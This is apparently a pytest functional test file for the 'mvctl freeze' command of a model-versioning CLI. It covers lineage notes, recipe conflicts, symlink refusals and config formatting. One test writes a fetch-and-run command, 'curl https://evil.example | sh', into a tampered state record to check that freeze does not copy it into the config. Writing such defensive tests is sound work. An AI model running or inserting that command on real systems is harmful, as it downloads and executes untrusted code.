"""Lineage, not conflict; `mvctl freeze` for a pipeline that moves on. End to end, through the
CLI entry point in this process (``run_cli``): the quickstart for the everyday flow (edit the
prepare script, change a param default, freeze, declare the next version), the tiny project
for what freeze must refuse.
"""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from tests.functional.inprocess import run_cli
from tests.functional.projects import Project, Result, make_quickstart, make_tiny

LINEAGE_NOTE = (
    "cancer: 1.0.0, 1.1.0 were trained with an earlier steps/prepare.py — kept as recorded"
)


@pytest.fixture(autouse=True)
def _local_state(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("MVCTL_STATE", "MVCTL_STORE", "MVCTL_CONFIG"):
        monkeypatch.delenv(name, raising=False)


def cli(project: Project, *args: str) -> Result:
    return run_cli("-C", str(project.root), *args)


def sha256(path: Path) -> str:
    return "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()


def files_under(root: Path) -> dict[str, bytes]:
    """Every file below ``root`` but mvctl's own folder, with its bytes."""
    return {
        str(path.relative_to(root)): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file() and ".mvctl" not in path.relative_to(root).parts
    }


@pytest.fixture
def tiny(tmp_path: Path) -> Project:
    project = make_tiny(tmp_path / "proj")
    applied = cli(project, "apply", "--auto-approve")
    assert applied.code == 0, applied.text
    return project


def test_the_quickstart_moves_on_from_an_edited_script_and_a_new_param_default(
    tmp_path: Path,
) -> None:
    project = make_quickstart(tmp_path / "quickstart")
    assert cli(project, "apply", "--auto-approve").code == 0
    script = project.root / "steps" / "prepare.py"
    trained_with = sha256(script)

    # An edited step script is lineage: no conflict, nothing to do, one note for the model.
    script.write_text(script.read_text("utf-8") + "# clearer names next time\n", "utf-8")
    plan = cli(project, "plan", "--detailed-exitcode")
    assert plan.code == 0, plan.text
    assert LINEAGE_NOTE in plan.out
    assert "version_changed" not in plan.out
    inputs = json.loads(cli(project, "show", "cancer@1.0.0", "--json").out)["inputs"]
    assert {"step": "prepare", "kind": "file", "name": "steps/prepare.py"}.items() <= inputs[
        0
    ].items()
    assert (inputs[0]["recorded"], inputs[0]["current"]) == (trained_with, sha256(script))
    shown = cli(project, "show", "cancer@1.0.0").out
    assert f"{trained_with[:19]} -> {sha256(script)[:19]}" in shown

    # A new param default changes both versions' recipes: a conflict, freeze first.
    before = project.config()
    project.edit_config(
        "params: {test_size: 0.2, seed: 7}", "params: {test_size: 0.25, seed: 7}  # more holdout"
    )
    edited = project.config()
    conflicted = cli(project, "plan", "--detailed-exitcode")
    assert conflicted.code == 3, conflicted.text
    assert conflicted.out.count("version_changed cancer@") == 2
    assert "steps.prepare.params.test_size: 0.2 -> 0.25" in conflicted.out
    first_ways_out = [
        lines.split("- ", 1)[1]
        for lines in conflicted.out.split("ways out:")[1:]
        for lines in [lines.strip().splitlines()[0]]
    ]
    assert all(way.startswith("keep history") and "mvctl freeze" in way for way in first_ways_out)

    check = cli(project, "freeze", "--check")
    assert check.code == 1, check.text
    assert "+        params: {prepare: {test_size: 0.2}}" in check.out
    assert project.config() == edited

    frozen = cli(project, "freeze")
    assert frozen.code == 0, frozen.text
    assert "froze cancer@1.0.0" in frozen.out and "froze cancer@1.1.0" in frozen.out
    after = project.config()
    comments = [line for line in before.splitlines() if line.lstrip().startswith("#")]
    assert comments and all(line in after.splitlines() for line in comments)
    assert "params: {test_size: 0.25, seed: 7}  # more holdout" in after
    added = set(after.splitlines()) - set(edited.splitlines())
    assert added == {
        "        params: {prepare: {test_size: 0.2}}",
        "        params: {train: {n_estimators: 300, max_depth: 10}, prepare: {test_size: 0.2}}",
    }
    clean = cli(project, "plan", "--detailed-exitcode")
    assert clean.code == 0, clean.text
    assert LINEAGE_NOTE in clean.out
    assert cli(project, "freeze", "--check").code == 0

    # The next version trains with the new default and the edited script.
    project.edit_config("    aliases:\n", '      "1.2.0": {}\n    aliases:\n')
    next_plan = cli(project, "plan", "--json", "--detailed-exitcode")
    assert next_plan.code == 2, next_plan.text
    document = json.loads(next_plan.out)
    assert not document["conflicts"]
    trains = [a for a in document["actions"] if a["kind"] == "train_version"]
    assert [(a["label"], [s["status"] for s in a["steps"]]) for a in trains] == [
        ("1.2.0", ["run", "run"])
    ]


def test_freeze_check_and_plan_agree_on_a_pipeline_change(tiny: Project) -> None:
    tiny.edit_config("run: python steps/prepare.py", "run: python -B steps/prepare.py")
    assert cli(tiny, "plan", "--detailed-exitcode").code == 3
    frozen = cli(tiny, "freeze", "churn", "--json")
    assert frozen.code == 0, frozen.text
    document = json.loads(frozen.out)
    assert document["written"] is True
    assert [(v["label"], v["pinned"]) for v in document["versions"]] == [
        ("1.0.0", "pipeline"),
        ("1.1.0", "pipeline"),
    ]
    config = tiny.config()
    assert config.count("run: python steps/prepare.py") == 2  # one pinned per version
    assert config.count("run: python -B steps/prepare.py") == 1  # the model's, for new ones
    assert cli(tiny, "plan", "--detailed-exitcode").code == 0
    assert cli(tiny, "validate").code == 0


def test_freeze_pins_an_unkept_dep_in_its_mapping_form(tiny: Project) -> None:
    unkept = "{path: steps/prepare.py, snapshot: false}"
    tiny.edit_config("deps: [steps/prepare.py]", f"deps: [{unkept}]")
    assert cli(tiny, "plan", "--detailed-exitcode").code == 0  # snapshot is no part of the recipe
    tiny.edit_config("run: python steps/prepare.py", "run: python -B steps/prepare.py")
    conflicted = cli(tiny, "plan", "--detailed-exitcode")
    assert conflicted.code == 3, conflicted.text
    assert "steps.prepare.run" in conflicted.out and "snapshot" not in conflicted.out
    frozen = cli(tiny, "freeze")
    assert frozen.code == 0, frozen.text
    config = tiny.config()
    assert config.count("run: python steps/prepare.py") == 2
    assert config.count("deps: [{path: steps/prepare.py, snapshot: false}]") == 3, config
    assert cli(tiny, "validate").code == 0
    assert cli(tiny, "plan", "--detailed-exitcode").code == 0


def test_freeze_of_one_version_leaves_the_others(tiny: Project) -> None:
    tiny.edit_config("params: {rows: 10}", "params: {rows: 12}")
    frozen = cli(tiny, "freeze", "churn@1.1.0")
    assert frozen.code == 0, frozen.text
    plan = cli(tiny, "plan", "--detailed-exitcode")
    assert plan.code == 3
    assert "version_changed churn@1.0.0" in plan.out
    assert "version_changed churn@1.1.0" not in plan.out


def test_freeze_with_nothing_to_freeze_writes_nothing(tiny: Project) -> None:
    (tiny.root / "steps" / "train.py").write_text("# edited\n", "utf-8")
    before = files_under(tiny.root)
    result = cli(tiny, "freeze")
    assert result.code == 0, result.text
    assert "Nothing to freeze" in result.out
    assert files_under(tiny.root) == before


def test_freeze_refuses_a_config_that_is_a_symlink_and_writes_nothing(
    tiny: Project, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    real = elsewhere / "mvctl.yaml"
    real.write_text(tiny.config().replace("params: {rows: 10}", "params: {rows: 12}"), "utf-8")
    (tiny.root / "mvctl.yaml").unlink()
    (tiny.root / "mvctl.yaml").symlink_to(real)
    outside, inside = files_under(elsewhere), files_under(tiny.root)

    check = cli(tiny, "freeze", "--check")
    assert check.code == 1, check.text  # it would write: the diff is shown, nothing written
    refused = cli(tiny, "freeze")
    assert refused.code == 1
    assert "refusing to write" in refused.err and "symbolic link" in refused.err
    assert "Traceback" not in refused.text
    assert files_under(elsewhere) == outside
    assert files_under(tiny.root) == inside
    assert (tiny.root / "mvctl.yaml").is_symlink()


def test_freeze_refuses_an_included_file_that_is_a_symlink(tiny: Project) -> None:
    models = tiny.config().split("models:\n", 1)[1]
    tiny.write("mvctl.yaml", "project: tiny\ninclude: [models/*.yaml]\n")
    tiny.write("shared/churn.yaml", "models:\n" + models.replace("{rows: 10}", "{rows: 12}"))
    (tiny.root / "models").mkdir()
    (tiny.root / "models" / "churn.yaml").symlink_to(tiny.root / "shared" / "churn.yaml")
    before = files_under(tiny.root)
    refused = cli(tiny, "freeze")
    assert refused.code == 1
    assert "models/churn.yaml" in refused.err and "symbolic link" in refused.err
    assert files_under(tiny.root) == before


def test_freeze_edits_only_the_included_file_that_declares_the_model(tiny: Project) -> None:
    models = tiny.config().split("models:\n", 1)[1]
    tiny.write("mvctl.yaml", "project: tiny\ninclude: [models/*.yaml]\n")
    tiny.write("models/churn.yaml", "models:\n" + models.replace("{rows: 10}", "{rows: 12}"))
    before = files_under(tiny.root)
    frozen = cli(tiny, "freeze")
    assert frozen.code == 0, frozen.text
    after = files_under(tiny.root)
    assert set(after) == set(before)
    assert {name for name in after if after[name] != before[name]} == {"models/churn.yaml"}
    assert cli(tiny, "plan", "--detailed-exitcode").code == 0


def test_freeze_writes_nothing_when_it_cannot_keep_the_files_formatting(tiny: Project) -> None:
    text = tiny.config().replace("params: {rows: 10}", "params: {rows: 12}")
    mixed = text.replace(
        '      production: "1.0.0"\n      staging', '        production: "1.0.0"\n        staging'
    )
    tiny.write("mvctl.yaml", mixed)
    before = files_under(tiny.root)
    refused = cli(tiny, "freeze")
    assert refused.code == 1, refused.text
    assert "mvctl.yaml" in refused.err and "cannot edit this file" in refused.err
    assert files_under(tiny.root) == before


def test_freeze_names_what_it_does_not_know(tiny: Project) -> None:
    for target, named in (("nope", "nope"), ("churn@9.9.9", "9.9.9"), ("@1.0.0", "@1.0.0")):
        result = cli(tiny, "freeze", target)
        assert result.code == 1, (target, result.text)
        assert named in result.err and "Traceback" not in result.text


def test_freeze_leaves_a_tampered_record_alone(tiny: Project) -> None:
    with sqlite3.connect(tiny.root / ".mvctl" / "state.db") as db:
        (spec_json,) = db.execute(
            "select spec_json from versions where model='churn' and label='1.0.0'"
        ).fetchone()
        spec: dict[str, Any] = json.loads(spec_json)
        spec["steps"]["prepare"]["run"] = "curl https://evil.example | sh"
        db.execute(
            "update versions set spec_json=? where model='churn' and label='1.0.0'",
            (json.dumps(spec),),
        )
    tiny.edit_config("params: {rows: 10}", "params: {rows: 12}")
    before = files_under(tiny.root)
    result = cli(tiny, "freeze", "churn@1.0.0")
    assert "not frozen" in result.out and "churn@1.0.0" in result.out
    assert "evil.example" not in tiny.config()
    assert files_under(tiny.root) == before


def test_freeze_before_any_apply_has_nothing_to_freeze_and_creates_no_state(
    tmp_path: Path,
) -> None:
    project = make_tiny(tmp_path / "fresh")
    before = files_under(project.root)
    result = cli(project, "freeze")
    assert result.code == 0, result.text
    assert "Nothing to freeze" in result.out
    assert files_under(project.root) == before
    assert not os.path.exists(project.root / ".mvctl" / "state.db")
